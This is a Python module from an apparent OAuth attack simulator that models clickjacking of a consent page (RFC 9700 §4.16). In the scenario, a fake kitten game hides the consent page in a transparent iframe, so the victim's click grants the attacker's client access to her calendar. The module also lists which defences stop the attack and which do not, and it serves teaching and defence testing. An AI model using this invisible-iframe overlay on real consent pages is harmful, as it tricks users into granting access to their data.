"""The consent page in a frame that nobody sees (RFC 9700 §4.16): Alice clicks on something else."""

from __future__ import annotations

from html import escape

from oauthsim.attacker import CALLBACK, CLIENT_ID
from oauthsim.attacks.browser.consent import as_horoscope
from oauthsim.attacks.crafted import request
from oauthsim.attacks.goals import reads_alices_data
from oauthsim.attacks.registry import attack
from oauthsim.scenarios import Step
from oauthsim.scenarios.authorization_code import connect
from oauthsim.scenarios.messages import from_to, request_to
from oauthsim.world import World

GAME = """<!doctype html><title>Kittens</title><h1>Catch the kitten</h1>
<p>Click where the kitten sits.</p>
<iframe style="opacity: 0; position: absolute" src="{consent}"></iframe>"""


@attack(
    "clickjacked-consent",
    title="Clickjacking of the consent page",
    spec="RFC 9700 §4.16",
    catalogue=("ATT-40",),
    goal=reads_alices_data,
    given=("pkce-is-sent", "redirect-uri-is-registered", "redirect-uri-matches-exactly"),
    stopped_by=("pages-are-not-framed", "login-cookie-is-not-sent-for-other-sites"),
    does_not_help=("form-is-our-own", "pkce-is-required", "client-secret-is-right", "pages-send-no-referrer"),
    steps=(
        Step("Alice connects her calendar, and so is logged in", request_to("/")),
        Step("She plays a game on Mallory's page", request_to("/game")),
        Step("In it, unseen, is the consent page for Mallory's client", request_to("/authorize")),
        Step("Her click lands on Allow", request_to("/consent", "POST")),
        Step(
            "Mallory redeems the code, as the client that she is", from_to("attacker", "authorization_server")
        ),
        Step("She reads Alice's calendar", from_to("attacker", "calendar")),
    ),
)
def clickjacked_consent(world: World) -> None:
    """A game lies over the consent page, and the click of whoever plays it says yes to Mallory."""
    connect(world, "Calendar")
    consent = escape(request(CALLBACK, CLIENT_ID))
    world.browser.open(world.mallory.serve("/game", GAME.format(consent=consent)))
    world.browser.press("Allow")  # she sees a kitten there
    as_horoscope(world)
